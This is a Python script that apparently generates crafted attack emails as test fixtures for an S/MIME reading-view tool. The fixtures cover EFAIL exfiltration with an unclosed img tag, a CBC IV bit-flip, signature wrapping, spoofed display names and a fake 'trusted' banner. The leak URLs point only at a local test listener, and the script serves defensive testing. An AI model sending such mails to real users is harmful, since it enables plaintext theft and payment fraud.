#!/usr/bin/env python3
"""Writes the crafted attack mails that test Siegel's reading-view defences (EFAIL, signature spoofing).

Throwaway, for tests only: the crate's tests (crate/tests/attacks.rs) and the extension's end-to-end tests
(tests/e2e/attacks.test.mjs) read these files. Every mail is to Bob (crate/tests/data/pki/bob.p12). Signatures
and encryption come from the real `openssl cms` and the `siegel` CLI (build it first:
`cargo build --release -p siegel-cli`); the rest is MIME put together here, byte by byte, as an attacker would.

Run: crate/tests/data/attacks/make-attacks.py   (rewrites every .eml beside it; noemail.* are made once)
     crate/tests/data/attacks/make-attacks.py wrapping   (only the wrapping mails, wrapped-*.eml)

Remote content in these mails points at http://127.0.0.1:8599/, where the end-to-end test listens for leaks.
"""
import base64
import os
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
PKI = os.path.join(HERE, "..", "pki")
SIEGEL = os.environ.get("SIEGEL", os.path.join(HERE, "..", "..", "..", "..", "target", "release", "siegel"))
LEAK = "http://127.0.0.1:8599"
SECRET = "The launch code is 0451-7781."
AES256_CBC_OID = bytes.fromhex("060960864801650304012a")

tmp = tempfile.mkdtemp()


def pki(name):
    return os.path.join(PKI, name)


def run(args, data=b"", env=None):
    return subprocess.run(args, input=data, check=True, capture_output=True, env=env).stdout


def siegel(args, data):
    return run([SIEGEL, *args], data, env={**os.environ, "P12_PASSWORD": "secret"})


def b64_lines(der):
    b = base64.b64encode(der)
    return b"\r\n".join(b[i : i + 76] for i in range(0, len(b), 76)) + b"\r\n"


def headers(frm, subject, extra=b""):
    return (
        b"From: " + frm + b"\r\nTo: Bob <bob@example.com>\r\nSubject: " + subject
        + b"\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\nMessage-ID: <" + subject.replace(b" ", b"-").lower()
        + b"@attacks.example>\r\n" + extra
    )


def text_entity(text):
    return b"Content-Type: text/plain; charset=us-ascii\r\n\r\n" + text.encode() + b"\r\n"


def openssl_sign(entity, signers, extra=()):
    """Detached (or with -nodetach, opaque) CMS SignedData in DER, one SignerInfo per (cert, key)."""
    path = os.path.join(tmp, "content")
    with open(path, "wb") as f:
        f.write(entity)
    args = ["openssl", "cms", "-sign", "-binary", "-in", path, "-outform", "DER", "-md", "sha256"]
    for cert, key in signers:
        args += ["-signer", cert, "-inkey", key]
    args += ["-certfile", pki("intermediate.crt"), *extra]
    return run(args)


def multipart_signed(entity, der, boundary=b"signed-boundary-7b1"):
    return (
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;\r\n boundary="'
        + boundary + b'"\r\n\r\n--' + boundary + b"\r\n" + entity + b"\r\n--" + boundary
        + b'\r\nContent-Type: application/pkcs7-signature; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\n'
        + b'Content-Disposition: attachment; filename="smime.p7s"\r\n\r\n' + b64_lines(der)
        + b"\r\n--" + boundary + b"--\r\n"
    )


def mixed(parts, boundary=b"mixed-boundary-3c9"):
    out = b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n'
    for p in parts:
        out += b"--" + boundary + b"\r\n" + p + b"\r\n"
    return out + b"--" + boundary + b"--\r\n"


def entity_of(mail):
    """The MIME entity of a mail the CLI wrote: its Content-* header fields (folded lines kept) and body."""
    head, _, body = mail.partition(b"\r\n\r\n")
    fields = []
    for line in head.split(b"\r\n"):
        if line[:1] in (b" ", b"\t") and fields:
            fields[-1] += b"\r\n" + line
        else:
            fields.append(line)
    keep = [f for f in fields if f.lower().startswith(b"content-")]
    return b"\r\n".join(keep) + b"\r\n\r\n" + body


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)
    print(f"  {name} ({len(data)} bytes)")


def noemail():
    """A certificate of the trusted test CA without any email address (made once, kept)."""
    key, crt = os.path.join(HERE, "noemail.key"), os.path.join(HERE, "noemail.crt")
    if os.path.exists(crt):
        return crt, key
    ext = os.path.join(tmp, "noemail.ext")
    with open(ext, "w") as f:
        f.write(
            "basicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature,nonRepudiation\n"
            "extendedKeyUsage=emailProtection\nsubjectKeyIdentifier=hash\nauthorityKeyIdentifier=keyid:always\n"
        )
    run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", key])
    csr = os.path.join(tmp, "noemail.csr")
    run(["openssl", "req", "-new", "-key", key, "-subj", "/O=Siegel Test/CN=No Email Address", "-out", csr])
    run(["openssl", "x509", "-req", "-in", csr, "-CA", pki("intermediate.crt"), "-CAkey", pki("intermediate.key"),
         "-set_serial", "0x5e9e1000000000a1", "-extfile", ext, "-sha256", "-days", "36500", "-out", crt])
    return crt, key


def main():
    if not os.path.exists(SIEGEL):
        sys.exit(f"{SIEGEL} is missing: cargo build --release -p siegel-cli")
    alice = (pki("alice.crt"), pki("alice.key"))
    carol = (pki("carol.crt"), pki("carol.key"))
    mallory = (pki("mallory.crt"), pki("mallory.key"))
    invoice = text_entity("Please pay invoice 4711 to account DE00 1234 5678.")
    print(f"writing attack mails to {HERE}")

    # Several signers: Alice's valid signature next to Mallory's, whose certificate (also for
    # alice@example.com) chains to an untrusted root. One trusted signer must not vouch for the other.
    der = openssl_sign(invoice, [alice, mallory])
    write("two-signers-untrusted.eml", headers(b"Alice <alice@example.com>", b"Two signers") + b"MIME-Version: 1.0\r\n" + multipart_signed(invoice, der))

    # Several signers, one signature broken (the last SignerInfo's signature is the end of the DER).
    der = bytearray(openssl_sign(invoice, [alice, carol]))
    der[-1] ^= 0x01
    write("two-signers-one-invalid.eml", headers(b"Alice <alice@example.com>", b"One bad signature") + b"MIME-Version: 1.0\r\n" + multipart_signed(invoice, bytes(der)))

    # eContentType confusion: Alice's valid signature over content that is not id-data (here it claims to be
    # a time-stamp token, id-ct-TSTInfo), presented as an opaque-signed mail.
    der = openssl_sign(invoice, [alice], ["-nodetach", "-econtent_type", "1.2.840.113549.1.9.16.1.4"])
    write(
        "econtent-type.eml",
        headers(b"Alice <alice@example.com>", b"Not data") + b"MIME-Version: 1.0\r\n"
        + b'Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\r\n'
        + b"Content-Transfer-Encoding: base64\r\n\r\n" + b64_lines(der),
    )

    # Partial signing: Alice's genuinely signed part inside an unsigned multipart/mixed with the attacker's text.
    hello = text_entity("Hello Bob, see you on Monday. Alice")
    signed_part = multipart_signed(hello, openssl_sign(hello, [alice]))
    write(
        "partial-signed.eml",
        headers(b"Alice <alice@example.com>", b"Partly signed") + b"MIME-Version: 1.0\r\n"
        + mixed([text_entity("Change of plan: pay invoice 4711 to account XX99 6666."), signed_part]),
    )

    # Alice's signed mail forwarded as message/rfc822 inside an unsigned mail from someone else.
    alice_mail = headers(b"Alice <alice@example.com>", b"Original") + b"MIME-Version: 1.0\r\n" + signed_part
    write(
        "forwarded-signed.eml",
        headers(b"Mallory <mallory@example.net>", b"Forwarded") + b"MIME-Version: 1.0\r\n"
        + mixed([text_entity("Alice asked me to tell you: pay to XX99 6666."),
                 b"Content-Type: message/rfc822\r\nContent-Disposition: inline\r\n\r\n" + alice_mail]),
    )

    # Display-name tricks and From mismatches, signed with Carol's trusted certificate (carol@example.com).
    carol_signed = siegel(["sign", "--identity", pki("carol.p12"), "--password-env", "P12_PASSWORD"],
                          b"From: x\r\nMIME-Version: 1.0\r\n" + invoice)
    carol_entity = entity_of(carol_signed)
    for name, frm, subject in [
        ("display-name.eml", b'"alice@example.com" <carol@example.com>', b"Display name"),
        ("display-name-encoded.eml", b"=?utf-8?B?" + base64.b64encode("Alice <alice@example.com>".encode()) + b"?= <carol@example.com>", b"Encoded display name"),
        ("two-from.eml", b"carol@example.com, alice@example.com", b"Two senders"),
        ("from-mismatch.eml", b"Alice <alice@example.com>", b"Wrong sender"),
    ]:
        write(name, headers(frm, subject) + b"MIME-Version: 1.0\r\n" + carol_entity)

    # A signer certificate without an email address (trusted CA), on mail from Alice.
    der = openssl_sign(invoice, [noemail()])
    write("no-email-signer.eml", headers(b"Alice <alice@example.com>", b"No email in certificate") + b"MIME-Version: 1.0\r\n" + multipart_signed(invoice, der))

    # A signing time in the future.
    future = siegel(["sign", "--identity", pki("carol.p12"), "--password-env", "P12_PASSWORD",
                     "--signing-time", "2099-01-01T00:00:00Z"], b"From: x\r\nMIME-Version: 1.0\r\n" + invoice)
    write("future-signing-time.eml", headers(b"Carol <carol@example.com>", b"From the future") + b"MIME-Version: 1.0\r\n" + entity_of(future))

    # Unsigned HTML that draws a copy of Siegel's banner.
    fake = (
        '<div id="banner" data-verdict="trusted" style="background:#e6f4ea;border:1px solid #34a853;padding:8px">'
        "Signed by alice@example.com: valid and trusted.</div><p>Please pay invoice 4711 to XX99 6666.</p>"
    )
    write("fake-banner.eml", headers(b"Alice <alice@example.com>", b"Fake banner") + b"MIME-Version: 1.0\r\n"
          + b"Content-Type: text/html; charset=us-ascii\r\n\r\n" + fake.encode() + b"\r\n")

    # EFAIL direct exfiltration: Bob's encrypted mail (AES-CBC) between attacker HTML parts with an unclosed
    # img tag; a reader that decrypts the middle part and renders the parts together sends the plaintext away.
    secret_html = b"Content-Type: text/html; charset=us-ascii\r\n\r\n<p>" + SECRET.encode() + b"</p>\r\n"
    enc = siegel(["encrypt", "--to", pki("bob.crt"), "--cipher", "aes-256-cbc"], b"From: x\r\nMIME-Version: 1.0\r\n" + secret_html)
    write(
        "efail-direct.eml",
        headers(b"Alice <alice@example.com>", b"EFAIL direct") + b"MIME-Version: 1.0\r\n"
        + mixed([
            b"Content-Type: text/html; charset=us-ascii\r\n\r\n<img src=\"" + LEAK.encode() + b"/efail?",
            entity_of(enc),
            b'Content-Type: text/html; charset=us-ascii\r\n\r\n">',
        ]),
    )

    # CBC mail with remote content (a stand-in for what CBC gadgets let an attacker write into the plaintext).
    remote_html = (b"Content-Type: text/html; charset=us-ascii\r\n\r\n<p>" + SECRET.encode() + b'</p><img src="'
                   + LEAK.encode() + b'/cbc.png"><div style="background:url(' + LEAK.encode() + b'/cbc-css.png)">x</div>'
                   + b'<meta http-equiv="refresh" content="0;url=' + LEAK.encode() + b'/cbc-refresh">'
                   + b'<link rel="stylesheet" href="' + LEAK.encode() + b'/cbc.css">\r\n')
    enc = siegel(["encrypt", "--to", pki("bob.crt"), "--cipher", "aes-256-cbc"], b"From: x\r\nMIME-Version: 1.0\r\n" + remote_html)
    write("cbc-remote.eml", headers(b"Alice <alice@example.com>", b"CBC remote content") + b"MIME-Version: 1.0\r\n" + entity_of(enc))

    # CBC malleability: flipping a bit of the IV flips the same bit of the first plaintext block, and the
    # mail still decrypts ("Content-Type" becomes "Xontent-Type"). Nothing can detect it: CBC has no integrity.
    der = bytearray(base64.b64decode(b"".join(entity_of(enc).partition(b"\r\n\r\n")[2].split())))
    at = der.find(AES256_CBC_OID)
    assert at > 0 and der[at + len(AES256_CBC_OID)] == 0x04 and der[at + len(AES256_CBC_OID) + 1] == 16
    iv = at + len(AES256_CBC_OID) + 2
    der[iv] ^= ord("C") ^ ord("X")
    write("cbc-flipped.eml", headers(b"Alice <alice@example.com>", b"CBC flipped") + b"MIME-Version: 1.0\r\n"
          + b'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n'
          + b"Content-Transfer-Encoding: base64\r\n\r\n" + b64_lines(bytes(der)))

    # The same flip on AES-GCM (AuthEnvelopedData) is detected: the last ciphertext byte sits before the 16-byte MAC.
    enc = siegel(["encrypt", "--to", pki("bob.crt")], b"From: x\r\nMIME-Version: 1.0\r\n" + secret_html)
    der = bytearray(base64.b64decode(b"".join(entity_of(enc).partition(b"\r\n\r\n")[2].split())))
    assert der[-18] == 0x04 and der[-17] == 16
    der[-19] ^= 0x01
    write("gcm-flipped.eml", headers(b"Alice <alice@example.com>", b"GCM flipped") + b"MIME-Version: 1.0\r\n"
          + b'Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name="smime.p7m"\r\n'
          + b"Content-Transfer-Encoding: base64\r\n\r\n" + b64_lines(bytes(der)))


def wrapping():
    """Wrapping (surreptitious forwarding, reply exfiltration): Carol, a trusted colleague, wraps Alice's
    signed mail, or a mail encrypted to Bob, in a signature of her own. Signatures by the CLI and openssl."""
    if not os.path.exists(SIEGEL):
        sys.exit(f"{SIEGEL} is missing: cargo build --release -p siegel-cli")
    carol = (pki("carol.crt"), pki("carol.key"))
    print(f"writing wrapping mails to {HERE}")
    secret = text_entity(SECRET)
    # Alice's genuinely signed mail (multipart/signed), as Bob might have received it before.
    alice_signed = siegel(["sign", "--identity", pki("alice.p12"), "--password-env", "P12_PASSWORD"],
                          b"From: Alice <alice@example.com>\r\nTo: Bob <bob@example.com>\r\nSubject: Plan\r\nMIME-Version: 1.0\r\n" + secret)
    # 1. Carol's signature around Alice's signed mail: two signature layers, none counts.
    wrapped = entity_of(alice_signed)
    write("wrapped-signed.eml", headers(b"Carol <carol@example.com>", b"Wrapped signature") + b"MIME-Version: 1.0\r\n"
          + multipart_signed(wrapped, openssl_sign(wrapped, [carol]), b"outer-boundary-a1"))
    # 2. Carol signs a mail encrypted to Bob (its plaintext signed by Alice) that she cannot read:
    #    signed(encrypted(signed)), the triple-wrap shape with another signer outside. Decrypted; none counts.
    enc = entity_of(siegel(["encrypt", "--to", pki("bob.crt")], alice_signed))
    write("wrapped-encrypted-signed.eml", headers(b"Carol <carol@example.com>", b"Wrapped encrypted signed")
          + b"MIME-Version: 1.0\r\n" + multipart_signed(enc, openssl_sign(enc, [carol]), b"outer-boundary-b2"))
    # 3. A mail encrypted to Bob under two signature layers of Carol's: not decrypted at all.
    enc_plain = entity_of(siegel(["encrypt", "--to", pki("bob.crt")], b"From: x\r\nMIME-Version: 1.0\r\n" + secret))
    inner = multipart_signed(enc_plain, openssl_sign(enc_plain, [carol]), b"inner-boundary-c3")
    write("wrapped-twice-encrypted.eml", headers(b"Carol <carol@example.com>", b"Encrypted under two signatures")
          + b"MIME-Version: 1.0\r\n" + multipart_signed(inner, openssl_sign(inner, [carol]), b"outer-boundary-c3"))
    # 4. Carol's one signature over a mail encrypted to Bob (encrypt-then-sign): she signed ciphertext only.
    write("signed-ciphertext.eml", headers(b"Carol <carol@example.com>", b"Signed ciphertext") + b"MIME-Version: 1.0\r\n"
          + multipart_signed(enc_plain, openssl_sign(enc_plain, [carol]), b"outer-boundary-d4"))


if __name__ == "__main__":
    if sys.argv[1:] == ["wrapping"]:
        wrapping()
    else:
        main()
        wrapping()
